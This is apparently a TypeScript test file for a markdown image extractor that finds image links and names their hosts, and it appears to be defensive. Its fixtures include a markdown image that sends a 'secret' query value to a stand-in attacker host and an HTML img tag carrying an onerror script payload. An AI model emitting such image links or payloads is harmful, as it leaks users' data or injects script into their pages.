import { describe, expect, it } from 'vitest';
import { imageHost, withImages } from './markdown-images';

describe('withImages', () => {
  it.each([
    ['before ![pixel](https://evil.example/p.png?q=secret) after', ['https://evil.example/p.png?q=secret']],
    ['![a](<https://x.example/a b>)', []],
    ['![a](https://x.example/a "title")![](//y.example/b)', ['https://x.example/a', '//y.example/b']],
    ["<IMG SRC='http://z.example/c' onerror=alert(1)> and <img src=//q.example>", ['http://z.example/c', '//q.example']],
    ['a [link](https://x.example) is text', []],
  ])('finds the images in %s', (text, targets) => {
    const pieces = withImages(text);
    expect(pieces.map((piece) => piece.text).join('')).toBe(text);
    expect(pieces.flatMap(({ image }) => (image ? [image.target] : []))).toEqual(targets);
  });

  it('takes a megabyte of brackets in no time', () => {
    expect(
      withImages('!['.repeat(500_000))
        .map(({ text }) => text)
        .join(''),
    ).toHaveLength(1_000_000);
  });

  it('names the host', () => {
    expect([imageHost('https://evil.example/p'), imageHost('data:image/png;base64,AA'), imageHost('/local.png')]).toEqual([
      'evil.example',
      'inside the text',
      'a relative address',
    ]);
  });
});
